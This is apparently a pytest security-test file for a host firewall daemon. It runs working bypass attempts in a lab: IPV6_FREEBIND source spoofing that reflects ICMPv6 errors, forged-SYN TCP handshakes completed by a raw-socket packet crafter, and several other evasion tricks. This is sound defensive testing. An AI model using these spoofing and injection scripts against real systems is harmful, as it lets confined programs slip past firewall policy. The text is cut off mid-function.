"""Tricks an unprivileged local user (nobody, no capabilities) may try on the packet path,
found by an attack review and run against the real wardend in the lab. Each test has a control
(the same thing without the trick, refused) and the trick; a test FAILS when the trick gets
through ("BYPASS: ...").

The main one: IPV6_FREEBIND needs no privilege and lets a socket send from an address that is
not the host's. A datagram "from" a refused peer to one of the host's own addresses was decided
as an outbound flow to that (allowed) local address; its conntrack entry then named the refused
peer as the flow's other end, and the kernel's ICMPv6 port unreachable, quoting the datagram,
rode rule 1's accept to the refused peer. The table now drops every new outbound flow from an
address that is not the host's (rule 1f, `foreign-source` counter). The others (IPv4-mapped
addresses, sendmmsg, TCP Fast Open, a UDP socket disconnected and connected again, UDP-Lite, an
inbound flow or a TCP handshake riding a forged source) were refused before it too.
"""
import json
import os
import socket
import time

import pytest

from test_attribution import NOBODY, cgroup, in_cgroup, write_profiles
from warden_cli import cli
from warden_expect import DROP_WAIT_MS, wait_until
from warden_lab import C4, C6, PYTHON, S4, S4B, S6, S6B

assert cgroup  # the fixture, imported for pytest

PY_EXE = os.path.realpath(PYTHON)
LAN6 = "fd77::1"  # a LAN (ULA) address given to the client namespace for these tests
EVIL6 = "2001:db8:1::77"  # an "internet" address nobody in the lab owns (for the TCP channel)

# Prints "ready", then one line per frame seen on DEVICE that holds MARKER and that this
# namespace did not send: "got <tag> <ip> <proto> <src> <dst> [icmp=T/C] [tcp=flags]".
CAPTURE = r"""
import socket, sys
dev, marker = sys.argv[1], sys.argv[2].encode()
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
s.bind((dev, 0))
import threading
def stack():
    # What this namespace's IPv6 stack accepted (a raw ICMPv6 socket sees it after the IP
    # layer's checks): "ip-got <tag> <src>".
    r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    while True:
        p, addr = r.recvfrom(65535)
        if marker in p:
            i = p.index(marker) + len(marker)
            print("ip-got", p[i:i + 24].split(b"|")[0].decode(errors="replace"), addr[0],
                  "type=%d" % p[0], "len=%d" % len(p), flush=True)
threading.Thread(target=stack, daemon=True).start()
print("ready", flush=True)
while True:
    p, addr = s.recvfrom(65535)
    if addr[2] == 4 or marker not in p:  # PACKET_OUTGOING: our own
        continue
    i = p.index(marker) + len(marker)
    tag = p[i:i + 24].split(b"|")[0].decode(errors="replace")
    if addr[1] == 0x86DD:
        nh, src, dst = p[6], socket.inet_ntop(socket.AF_INET6, p[8:24]), \
            socket.inet_ntop(socket.AF_INET6, p[24:40])
        extra = ""
        if nh == 58:
            extra = "icmp=%d/%d" % (p[40], p[41])
        elif nh == 6:
            extra = "tcp=%#x" % p[40 + 13]
        print("got", tag, "v6", nh, src, dst, extra, flush=True)
    elif addr[1] == 0x0800:
        hl = (p[0] & 15) * 4
        nh, src, dst = p[9], socket.inet_ntoa(p[12:16]), socket.inet_ntoa(p[16:20])
        extra = "icmp=%d/%d" % (p[hl], p[hl + 1]) if nh == 1 else ""
        print("got", tag, "v4", nh, src, dst, extra, flush=True)
"""

# The attacker (run as nobody). Modes:
#   direct HOST PORT TAG            one UDP datagram holding MARKER+TAG to HOST:PORT
#   reflect SRC SPORT DST DPORT FB TAG   a UDP socket bound to SRC:SPORT (IP(V6)_FREEBIND when
#                                   FB=1) sends MARKER+TAG (repeated) to DST:DPORT
ATTACKER = r"""
import socket, sys
mode, marker = sys.argv[1], sys.argv[2]
def out(*a):
    print(*a, flush=True)
if mode == "direct":
    host, port, tag = sys.argv[3], int(sys.argv[4]), sys.argv[5]
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(((marker + tag + "|") * 8).encode(), (host, port))
        out("sent")
    except OSError as e:
        out("send-refused", e.errno)
elif mode == "reflect":
    src, sport, dst, dport, fb, tag = sys.argv[3:9]
    v6 = ":" in dst
    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_DGRAM)
    if fb == "1":
        if v6:
            s.setsockopt(socket.IPPROTO_IPV6, 78, 1)  # IPV6_FREEBIND
        else:
            s.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
    try:
        s.bind((src, int(sport)))
    except OSError as e:
        out("bind-refused", e.errno)
        sys.exit(0)
    try:
        s.sendto(((marker + tag + "|") * 30).encode(), (dst, int(dport)))
        out("sent")
    except OSError as e:
        out("send-refused", e.errno)
"""

# A UDP server run as nobody: binds ADDR:PORT, prints "ready", then "recv <from> <tag>" for each
# datagram for SECONDS.
UDP_SERVER = r"""
import socket, sys, time
addr, port, marker, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
s.bind((addr, port))
s.settimeout(0.2)
print("ready", flush=True)
end = time.monotonic() + seconds
while time.monotonic() < end:
    try:
        data, peer = s.recvfrom(4096)
    except socket.timeout:
        continue
    d = data.decode(errors="replace")
    tag = d[d.index(marker) + len(marker):].split("|")[0] if marker in d else "?"
    print("recv", peer[0], peer[1], tag, flush=True)
"""

# Run as root in the server namespace: one UDP datagram holding MARKER+TAG from SRC:SPORT to
# DST:DPORT.
PEER_SEND = r"""
import socket, sys
src, sport, dst, dport, marker, tag = sys.argv[1:7]
s = socket.socket(socket.AF_INET6 if ":" in dst else socket.AF_INET, socket.SOCK_DGRAM)
s.bind((src, int(sport)))
s.sendto(((marker + tag + "|") * 4).encode(), (dst, int(dport)))
print("sent", flush=True)
"""


def _attack(lab, cg, *args, timeout=20):
    res = lab.c.run(in_cgroup(cg, NOBODY + [PYTHON, "-c", ATTACKER] + [str(a) for a in args]),
                    timeout=timeout, check=False)
    assert res.returncode == 0, (res.stdout, res.stderr)
    return res.stdout.strip()


def _capture(lab, marker, tag="capture"):
    p = lab.s.spawn([PYTHON, "-c", CAPTURE, "wts0", marker], tag, lines=True)
    assert p.wait_line(lambda t: t == "ready", timeout=10), p.stderr_text()
    return p


def _seen(capture, tag, wait=1.5):
    time.sleep(wait)
    return [t for _, t in capture.lines if t.startswith(f"got {tag} ")]


def _rows(d):
    out = cli(d, "log", "--json", "--limit", "0")
    return [json.loads(line) for line in out.stdout.splitlines()]


def _row_summary(rows):
    return [(r.get("direction"), r.get("action"), r.get("protocol"), r.get("local_addr"),
             r.get("local_port"), r.get("remote_addr"), r.get("remote_port"), r.get("profile"),
             r.get("decided_by")) for r in rows]


def _peer_unreachables(lab):
    for line in lab.s.run(["cat", "/proc/net/snmp6"]).stdout.splitlines():
        if line.startswith("Icmp6InDestUnreachs"):
            return int(line.split()[1])
    return 0


def _add_lan_address(lab):
    lab.c.run(["ip", "-6", "addr", "add", f"{LAN6}/64", "dev", "wtc0", "nodad"])
    lab.s.run(["ip", "-6", "route", "add", "fd77::/64", "via", C6])


def _confined(lab, wardend, cg, extra_rules=(), inbound=True, globals_=None, kernel="allow"):
    """The attacker's program (python, run as nobody) has a profile that may reach the LAN and
    nothing else; the engine default is deny; the global rules are the shipped ones (loopback
    allowed for everyone)."""
    write_profiles(lab, {})
    path = os.path.join(lab.tmp, "wardend", "profiles.d", "10-confined.toml")
    rules = '[[rule]]\naction = "allow"\nscope = "lan"\n'
    for r in extra_rules:
        rules += "[[rule]]\n" + "".join(f"{k} = {json.dumps(v)}\n" for k, v in r.items())
    with open(path, "w") as f:
        f.write(f'name = "confined"\ndefault = "deny"\n[[match]]\npath = "{PY_EXE}"\n' + rules)
    os.chmod(path, 0o644)
    for server in (S4, S6, S4B, S6B):
        lab.ping(server)
    if globals_ is None:
        globals_ = [{"action": "allow", "scope": "localhost", "comment": "shipped"}]
    d = wardend(engine={"unknown": "deny", "default": "deny", "kernel": kernel,
                        "inbound": inbound, "dns": True},
                attribution={"ebpf": True, "cgroup": cg}, rules=globals_)
    assert wait_until(lambda: d.status()["policy"]["profiles"] == 1, timeout=5), d.stderr()
    assert d.status()["method"] == "ebpf", d.status()
    return d


# ---- 1. ICMPv6 errors as a carrier ------------------------------------------------------------

ICMP_CASES = [
    pytest.param("::1", True, "allow", id="loopback-global-rule"),
    pytest.param(LAN6, True, "allow", id="lan-profile-rule"),
    pytest.param(C6, True, "allow", id="own-prefix-profile-rule"),
    pytest.param(C6, False, "allow", id="own-prefix-inbound-off"),
    pytest.param(C6, True, "deny", id="own-prefix-kernel-deny"),
]


@pytest.mark.parametrize("target,inbound,kernel", ICMP_CASES)
def test_icmpv6_error_reflects_a_freebind_datagram_to_a_refused_peer(lab, cgroup, wardend,
                                                                     target, inbound, kernel):
    """The confined program may not reach S6B. It binds a UDP socket to [S6B]:40000 with
    IPV6_FREEBIND and sends a datagram to a closed port of TARGET (loopback, allowed for all by
    the shipped global rule; or the host's LAN address, allowed by its profile). The kernel
    answered with an ICMPv6 port unreachable to S6B that quoted the datagram: RELATED to the
    accepted flow, it left through rule 1 without a decision. Rule 1f now drops the datagram."""
    _add_lan_address(lab)
    marker = f"WX{os.getpid()}-"
    d = _confined(lab, wardend, cgroup, inbound=inbound, kernel=kernel,
                  extra_rules=[{"action": "allow", "ip": ["2001:db8::/64"]}])
    cap = _capture(lab, marker)

    # Control 1: the program sending to S6B itself is refused.
    assert _attack(lab, cgroup, "direct", marker, S6B, 7000, "direct") in ("sent",
                                                                           "send-refused 1")
    # Control 2: the same datagram to the closed port from the program's own address: the
    # error comes back to this host, nothing reaches S6B.
    assert _attack(lab, cgroup, "reflect", marker, "::", 40001, target, 7999, 0, "own") == "sent"
    # The trick. The peer's own count of ICMPv6 destination-unreachable messages it received
    # (its IP stack's, /proc/net/snmp6) is read around it too.
    before = _peer_unreachables(lab)
    outcome = _attack(lab, cgroup, "reflect", marker, S6B, 40000, target, 7999, 1, "spoofed")
    time.sleep(0.5)
    received = _peer_unreachables(lab) - before
    direct, own, spoofed = (_seen(cap, t, wait=w) for t, w in
                            (("direct", 1.5), ("own", 0), ("spoofed", 0)))
    rows = _row_summary(_rows(d))
    assert direct == [], f"control failed: the direct datagram arrived: {direct} {rows}"
    assert own == [], f"control 2 leaked: {own}"
    stack = [t for _, t in cap.lines if t.startswith("ip-got spoofed")]
    snmp = lab.c.run(["cat", "/proc/net/snmp6"]).stdout.split("\n")
    snmp = [l for l in snmp if any(k in l for k in ("Icmp6OutDestUnreachs", "Udp6NoPorts",
                                                     "Icmp6OutErrors", "RateLimit",
                                                     "Icmp6OutMsgs", "Ip6Out"))]
    print("SNMP", snmp, "invalid", d.status()["totals"]["invalid"], "s-side:",
          [l for l in lab.s.run(["cat", "/proc/net/snmp6"]).stdout.split("\n")
           if "Icmp6InDestUnreachs" in l])
    print("ICMP", target, inbound, kernel, "attacker:", outcome, "peer received",
          received, "unreachables; frames:", spoofed,
          "accepted by the peer's IP stack:", stack, "rows:", rows)
    assert not spoofed and received == 0, (
        f"BYPASS: attacker data reached the refused peer {S6B} inside an ICMPv6 error; "
        f"attacker said {outcome!r}; peer's stack counted {received} unreachables; "
        f"frames {spoofed}; peer stack {stack}; log rows {rows}")


def test_ipv4_freebind_cannot_send_from_a_foreign_address(lab, cgroup, wardend):
    """The IPv4 form of the trick: the kernel refuses to route from a non-local source without
    IP_TRANSPARENT (which needs CAP_NET_ADMIN/NET_RAW)."""
    marker = f"WX{os.getpid()}-"
    _confined(lab, wardend, cgroup, extra_rules=[{"action": "allow", "ip": ["192.0.2.1"]}])
    cap = _capture(lab, marker)
    outcome = _attack(lab, cgroup, "reflect", marker, S4B, 40000, "192.0.2.1", 7999, 1, "v4")
    seen = _seen(cap, "v4")
    assert not seen, f"BYPASS over IPv4: {outcome} {seen}"
    print("ipv4 freebind outcome:", outcome)


# ---- 2. an inbound flow riding a primed outbound one ------------------------------------------

def test_inbound_datagrams_of_a_refused_peer_ride_a_flow_primed_with_a_forged_source(
        lab, cgroup, wardend):
    """The confined program listens on [fd77::1]:6666; inbound flows to it are refused (its
    profile has no inbound rule, default deny). Control: S6B sends to it and nothing arrives.
    Trick: the program first sends itself a datagram "from" [S6B]:5556 (IPV6_FREEBIND): an
    outbound flow to its LAN address, allowed. Then S6B sends from port 5556: the datagrams
    are that flow's, in its original direction, accepted by rule 1."""
    _add_lan_address(lab)
    marker = f"WI{os.getpid()}-"
    d = _confined(lab, wardend, cgroup, inbound=True)
    server = lab.c.spawn(in_cgroup(cgroup, NOBODY + [PYTHON, "-c", UDP_SERVER, LAN6, "6666",
                                                       marker, "12"]), "udp-server", lines=True)
    assert server.wait_line(lambda t: t == "ready", timeout=10), server.stderr_text()

    def peer(sport, tag):
        res = lab.s.run([PYTHON, "-c", PEER_SEND, S6B, str(sport), LAN6, "6666", marker, tag],
                        timeout=10, check=False)
        assert "sent" in res.stdout, (res.stdout, res.stderr)

    peer(5557, "control1")
    peer(5557, "control2")
    time.sleep(DROP_WAIT_MS / 1000)
    outcome = _attack(lab, cgroup, "reflect", marker, S6B, 5556, LAN6, 6666, 1, "primer")
    time.sleep(0.3)
    peer(5556, "evil1")
    peer(5556, "evil2")
    time.sleep(1.0)
    got = [t for _, t in server.lines if t.startswith("recv")]
    rows = _row_summary(_rows(d))
    print("INBOUND primer:", outcome, "server:", got, "rows:", rows, "status:",
          d.status()["totals"])
    assert not any(t.endswith("control1") or t.endswith("control2") for t in got), \
        f"control failed: inbound reached the program without the trick: {got} {rows}"
    assert not any(t.endswith(("evil1", "evil2")) for t in got), (
        f"BYPASS: the refused peer's datagrams reached the program (primer: {outcome}): "
        f"{got}; rows {rows}")


# ---- 3. a whole TCP connection with a refused peer ---------------------------------------------

# Run as nobody: listens on ADDR:PORT, accepts one connection, prints "accepted <peer>", prints
# what it reads ("recv <tag>"), answers MARKER+"tcpout", prints "sent".
TCP_LISTENER = r"""
import socket, sys, time
addr, port, marker = sys.argv[1], int(sys.argv[2]), sys.argv[3]
l = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind((addr, port))
l.listen(8)
l.settimeout(15)
print("ready", flush=True)
c, peer = l.accept()
print("accepted", peer[0], peer[1], flush=True)
c.settimeout(5)
data = c.recv(4096).decode(errors="replace")
print("recv", data[data.index(marker) + len(marker):].split("|")[0] if marker in data else data,
      flush=True)
c.sendall(((marker + "tcpout|") * 10).encode())
print("sent", flush=True)
time.sleep(2)
"""

# Run as nobody: a TCP socket bound with IPV6_FREEBIND to SRC:SPORT connects (non-blocking) to
# DST:DPORT and waits: its SYN is the forged one.
TCP_FORGED_SYN = r"""
import socket, sys, time
src, sport, dst, dport = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.setsockopt(socket.IPPROTO_IPV6, 78, 1)
s.bind((src, sport))
s.setblocking(False)
try:
    s.connect((dst, dport))
except BlockingIOError:
    pass
print("syn", flush=True)
time.sleep(0.4)
s.close()
"""

# Run as root in the server namespace (the remote accomplice, which owns no address EVIL:
# the kernel there never answers): reads the SYN-ACK sent to EVIL:EPORT on DEVICE, answers it
# with ACK+data (MARKER+"tcpin") to the client MAC, then prints the data that comes back.
ACCOMPLICE = r"""
import socket, struct, sys, time
dev, evil, eport, marker, client_mac = sys.argv[1], sys.argv[2], int(sys.argv[3]), \
    sys.argv[4].encode(), bytes.fromhex(sys.argv[5].replace(":", ""))
r = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x86DD))
r.bind((dev, 0))
r.settimeout(0.2)
print("ready", flush=True)
evil_b = socket.inet_pton(socket.AF_INET6, evil)
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def tcp6(src, dst, sport, dport, seq, ack, flags, opts, payload):
    off = (20 + len(opts)) // 4
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, flags, 65535, 0, 0) + opts
    seg = hdr + payload
    pseudo = src + dst + struct.pack("!I3xB", len(seg), 6)
    c = csum(pseudo + seg)
    seg = seg[:16] + struct.pack("!H", c) + seg[18:]
    ip = struct.pack("!IHBB", 6 << 28, len(seg), 6, 64) + src + dst
    return ip + seg
def tsval(opts):
    i = 0
    while i < len(opts):
        k = opts[i]
        if k == 0:
            break
        if k == 1:
            i += 1
            continue
        if k == 8:
            return struct.unpack("!II", opts[i + 2:i + 10])
        i += opts[i + 1]
    return None
end = time.monotonic() + 15
answered = False
while time.monotonic() < end:
    try:
        p, addr = r.recvfrom(65535)
    except socket.timeout:
        continue
    if addr[2] == 4 or p[6] != 6 or p[24:40] != evil_b:
        continue
    tcp = p[40:]
    sport, dport, seq, ack = struct.unpack("!HHII", tcp[:12])
    flags = tcp[13]
    opts = tcp[20:(tcp[12] >> 4) * 4]
    payload = tcp[(tcp[12] >> 4) * 4:]
    if dport != eport:
        continue
    if flags & 0x12 == 0x12 and not answered:
        print("synack", sport, seq, ack, flush=True)
        tv = tsval(opts)  # the listener's (TSval, TSecr): TSecr is the forged SYN's TSval
        o = b"\x01\x01\x08\x0a" + struct.pack("!II", (tv[1] + 1) & 0xffffffff, tv[0]) \
            if tv is not None else b""
        pkt = tcp6(evil_b, p[8:24], eport, sport, ack, seq + 1, 0x18, o,
                   ((marker.decode() + "tcpin|") * 4).encode())
        r.sendto(pkt, (dev, 0x86DD, 0, 0, client_mac))
        answered = True
        print("acked", flush=True)
    elif marker in payload:
        i = payload.index(marker) + len(marker)
        print("data", payload[i:i + 16].split(b"|")[0].decode(), flush=True)
"""


def test_a_whole_tcp_connection_with_a_refused_peer_through_a_forged_syn(lab, cgroup, wardend):
    """The confined program (LAN only) listens on [fd77::1]:6667 and sends itself a SYN "from"
    [EVIL6]:5560 with IPV6_FREEBIND: an outbound flow to its LAN address, allowed. The
    listener's SYN-ACK goes to EVIL6 on the wire (the refused peer), which completes the
    handshake and sends data; the listener reads it and answers: a TCP connection both ways
    with a peer the policy refuses. Control: the program's own connect to EVIL6 is refused."""
    _add_lan_address(lab)
    marker = f"WT{os.getpid()}-"
    # EVIL6 is reached through the server namespace's link, where nobody owns it: its kernel
    # neither answers nor forwards (forwarding off for this test).
    mac_s = json.loads(lab.s.run(["ip", "-j", "link", "show", "wts0"]).stdout)[0]["address"]
    mac_c = json.loads(lab.c.run(["ip", "-j", "link", "show", "wtc0"]).stdout)[0]["address"]
    lab.c.run(["ip", "-6", "neigh", "add", EVIL6, "lladdr", mac_s, "dev", "wtc0", "nud",
               "permanent"])
    lab.s.run(["sysctl", "-qw", "net.ipv6.conf.all.forwarding=0"])
    d = _confined(lab, wardend, cgroup)

    # Control: the program's own connection to EVIL6 is refused.
    ctl = lab.c.run(in_cgroup(cgroup, NOBODY + [PYTHON, "-c",
                                                "import socket,sys\n"
                                                "s=socket.socket(socket.AF_INET6)\n"
                                                "s.settimeout(1.5)\n"
                                                "try:\n s.connect((sys.argv[1],5561));print('connected')\n"
                                                "except OSError as e: print('failed',e)\n",
                                                EVIL6]), timeout=20, check=False)
    assert "connected" not in ctl.stdout, ctl.stdout

    accomplice = lab.s.spawn([PYTHON, "-c", ACCOMPLICE, "wts0", EVIL6, "5560", marker, mac_c],
                             "accomplice", lines=True)
    assert accomplice.wait_line(lambda t: t == "ready", timeout=10), accomplice.stderr_text()
    listener = lab.c.spawn(in_cgroup(cgroup, NOBODY + [PYTHON, "-c", TCP_LISTENER, LAN6, "6667",
                                                         marker]), "listener", lines=True)
    assert listener.wait_line(lambda t: t == "ready", timeout=10), listener.stderr_text()
    syn = lab.c.run(in_cgroup(cgroup, NOBODY + [PYTHON, "-c", TCP_FORGED_SYN, EVIL6, "5560",
                                                LAN6, "6667"]), timeout=20, check=False)
    assert "syn" in syn.stdout, (syn.stdout, syn.stderr)
    listener.wait_line(lambda t: t == "sent", timeout=8)
    accomplice.wait_line(lambda t: t.startswith("data"), timeout=3)
    rows = _row_summary(_rows(d))
    lines = {"listener": [t for _, t in listener.lines], "accomplice":
             [t for _, t in accomplice.lines], "rows": rows}
    print("TCP:", lines)
    got_in = any(t.startswith("recv tcpin") for _, t in listener.lines)
    got_out = any(t.startswith("data tcpout") for _, t in accomplice.lines)
    assert not (got_in or got_out), (
        f"BYPASS: TCP with the refused peer {EVIL6}: in={got_in} out={got_out}; {lines}")


# ---- 4. other tricks, expected to be refused ---------------------------------------------------

# Run as nobody. Modes (each prints one outcome line per attempt: "<tag> reply|timeout|error"):
#   mapped HOST4 PORT         AF_INET6 socket to ::ffff:HOST4 (UDP and TCP)
#   sendmmsg HOST PORT_OK PORT_DENIED   one sendmmsg() with a datagram to each port
#   fastopen HOST PORT        sendto(MSG_FASTOPEN) on an unconnected TCP socket
#   reconnect HOST PORT_OK PORT_DENIED  UDP connect, AF_UNSPEC disconnect, connect elsewhere
#   udplite HOST PORT         a UDP-Lite datagram
OTHERS = r"""
import ctypes, socket, struct, sys, time
mode = sys.argv[1]
def out(*a):
    print(*a, flush=True)
def udp_wait(s, tag):
    s.settimeout(1.2)
    try:
        s.recv(4096)
        out(tag, "reply")
    except socket.timeout:
        out(tag, "timeout")
    except OSError as e:
        out(tag, "error", e.errno)
if mode == "mapped":
    host, port = sys.argv[2], int(sys.argv[3])
    u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    u.sendto(b"mapped", ("::ffff:" + host, port))
    udp_wait(u, "udp")
    t = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    t.settimeout(1.2)
    try:
        t.connect(("::ffff:" + host, port))
        out("tcp", "reply")
    except socket.timeout:
        out("tcp", "timeout")
    except OSError as e:
        out("tcp", "error", e.errno)
elif mode == "sendmmsg":
    host, ok, bad = sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    libc = ctypes.CDLL(None, use_errno=True)
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    class msghdr(ctypes.Structure):
        _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint32),
                    ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                    ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                    ("flags", ctypes.c_int)]
    class mmsghdr(ctypes.Structure):
        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    keep = []
    msgs = (mmsghdr * 2)()
    for i, port in enumerate((ok, bad)):
        addr = struct.pack("!HH4s8x", socket.AF_INET, port, socket.inet_aton(host))
        addr = struct.pack("=H", socket.AF_INET) + addr[2:]
        abuf = ctypes.create_string_buffer(addr, len(addr))
        data = ctypes.create_string_buffer(b"mm%d" % port)
        iov = iovec(ctypes.cast(data, ctypes.c_void_p), 5)
        keep += [abuf, data, iov]
        msgs[i].hdr.name = ctypes.cast(abuf, ctypes.c_void_p)
        msgs[i].hdr.namelen = 16
        msgs[i].hdr.iov = ctypes.pointer(iov)
        msgs[i].hdr.iovlen = 1
    n = libc.sendmmsg(s.fileno(), msgs, 2, 0)
    out("sendmmsg", n, ctypes.get_errno())
    s.settimeout(1.5)
    got = []
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        try:
            data, peer = s.recvfrom(100)
            got.append(peer[1])
        except socket.timeout:
            break
        except OSError as e:
            got.append("err%d" % e.errno)
    out("replies", *sorted(str(g) for g in got))
elif mode == "fastopen":
    host, port = sys.argv[2], int(sys.argv[3])
    fam = socket.AF_INET6 if ":" in host else socket.AF_INET
    import signal
    signal.signal(signal.SIGALRM, lambda *a: (_ for _ in ()).throw(socket.timeout()))
    t = socket.socket(fam, socket.SOCK_STREAM)
    try:
        signal.alarm(2)  # a blocking sendto(MSG_FASTOPEN) waits for the handshake
        t.sendto(b"fastopen-data", socket.MSG_FASTOPEN, (host, port))
        t.settimeout(1.5)
        d = t.recv(100)
        signal.alarm(0)
        out("tfo", "reply", d)
    except socket.timeout:
        out("tfo", "timeout")
    except OSError as e:
        out("tfo", "error", e.errno)
elif mode == "reconnect":
    host, ok, bad = sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((host, ok))
    s.send(b"first")
    udp_wait(s, "first")
    libc = ctypes.CDLL(None, use_errno=True)
    unspec = ctypes.create_string_buffer(struct.pack("=H14x", 0), 16)
    out("disconnect", libc.connect(s.fileno(), unspec, 16))
    s.connect((host, bad))
    s.send(b"second")
    udp_wait(s, "second")
elif mode == "udplite":
    host, port = sys.argv[2], int(sys.argv[3])
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)
    except OSError as e:
        out("udplite", "nosocket", e.errno)
        sys.exit(0)
    try:
        s.sendto(b"udplite", (host, port))
        out("udplite", "sent")
    except OSError as e:
        out("udplite", "error", e.errno)
"""


def _others(lab, cg, *args):
    res = lab.c.run(in_cgroup(cg, NOBODY + [PYTHON, "-c", OTHERS] + [str(a) for a in args]),
                    timeout=30, check=False)
    return res.stdout, res.stderr


def test_other_tricks_against_a_port_rule(lab, cgroup, wardend):
    """The confined program may reach port 7001 of the server and nothing else there (7000 is
    refused). Each trick aims at 7000, with 7001 as its control."""
    d = _confined(lab, wardend, cgroup, extra_rules=[{"action": "allow", "ports": [7001]}])
    cap = _capture(lab, "udplite")
    results = {}
    results["mapped-ok"] = _others(lab, cgroup, "mapped", S4, 7001)[0]
    results["mapped-denied"] = _others(lab, cgroup, "mapped", S4, 7000)[0]
    results["sendmmsg"] = _others(lab, cgroup, "sendmmsg", S4, 7001, 7000)
    results["tfo-ok"] = _others(lab, cgroup, "fastopen", S4, 7001)[0]
    results["tfo-denied"] = _others(lab, cgroup, "fastopen", S4, 7000)[0]
    results["tfo6-denied"] = _others(lab, cgroup, "fastopen", S6, 7000)[0]
    results["reconnect"] = _others(lab, cgroup, "reconnect", S4, 7001, 7000)
    results["udplite"] = _others(lab, cgroup, "udplite", S4, 7000)
    time.sleep(1)
    results["udplite-seen"] = [t for _, t in cap.lines if t.startswith("got")]
    rows = _row_summary(_rows(d))
    print(json.dumps(results, indent=1))
    assert "udp reply" in results["mapped-ok"] and "tcp reply" in results["mapped-ok"], results
    assert "reply" not in results["mapped-denied"], f"BYPASS mapped: {results} {rows}"
    assert "replies 7001\n" in results["sendmmsg"][0], f"sendmmsg: {results} {rows}"
    assert "tfo reply" in results["tfo-ok"], results
    assert "reply" not in results["tfo-denied"], f"BYPASS tfo: {results} {rows}"
    assert "reply" not in results["tfo6-denied"], f"BYPASS tfo6: {results} {rows}"
    assert "first reply" in results["reconnect"][0], results
    assert "second reply" not in results["reconnect"][0], f"BYPASS reconnect: {results} {rows}"
    assert results["udplite-seen"] == [], f"BYPASS udplite: {results} {rows}"


# ---- multicast group reports ---------------------------------------------------------------

# Server side: prints "ready", then "mld <group>" for each MLD report group record and
# "igmp <group>" for each IGMP report group seen on DEVICE (frames this namespace did not send).
GROUP_SNIFFER = r"""
import socket, struct, sys
dev = sys.argv[1]
s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
s.bind((dev, 0))
print("ready", flush=True)
while True:
    p, addr = s.recvfrom(65535)
    if addr[2] == 4:
        continue
    if addr[1] == 0x86DD:
        nh, off = p[6], 40
        if nh == 0:  # hop-by-hop (router alert)
            nh, off = p[40], 40 + (p[41] + 1) * 8
        if nh != 58:
            continue
        t = p[off]
        if t == 143:  # MLDv2 report: records of 4 + 16 bytes
            n = struct.unpack("!H", p[off + 6:off + 8])[0]
            r = off + 8
            for _ in range(n):
                aux, ns = p[r + 1], struct.unpack("!H", p[r + 2:r + 4])[0]
                print("mld", socket.inet_ntop(socket.AF_INET6, p[r + 4:r + 20]), flush=True)
                r += 20 + ns * 16 + aux * 4
        elif t == 131:
            print("mld", socket.inet_ntop(socket.AF_INET6, p[off + 8:off + 24]), flush=True)
    elif addr[1] == 0x0800 and p[9] == 2:
        hl = (p[0] & 15) * 4
        t = p[hl]
        if t == 0x22:
            n = struct.unpack("!H", p[hl + 6:hl + 8])[0]
            r = hl + 8
            for _ in range(n):
                aux, ns = p[r + 1], struct.unpack("!H", p[r + 2:r + 4])[0]
                print("igmp", socket.inet_ntoa(p[r + 4:r + 8]), flush=True)
                r += 8 + ns * 4 + aux * 4
        elif t in (0x12, 0x16):
            print("igmp", socket.inet_ntoa(p[hl + 4:hl + 8]), flush=True)
"""

# Run as nobody: joins each group given (IPv6 groups on ifindex of DEV, IPv4 ones on the
# address ADDR4), holds them a second, prints "joined N".
JOINER = r"""
import socket, struct, sys, time
dev, addr4, groups = sys.argv[1], sys.argv[2], sys.argv[3:]
idx = socket.if_nametoindex(dev)
keep = []
for g in groups:
    if ":" in g:
        s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(socket.AF_INET6, g) + struct.pack("@I", idx))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                     socket.inet_aton(g) + socket.inet_aton(addr4))
    keep.append(s)
print("joined", len(keep), flush=True)
time.sleep(1.5)
"""


def _sniffer(lab):
    p = lab.s.spawn([PYTHON, "-c", GROUP_SNIFFER, "wts0"], "group-sniffer", lines=True)
    assert p.wait_line(lambda t: t == "ready", timeout=10), p.stderr_text()
    return p


def _join(lab, cg, *groups):
    res = lab.c.run(in_cgroup(cg, NOBODY + [PYTHON, "-c", JOINER, "wtc0", C4] + list(groups)),
                    timeout=20, check=False)
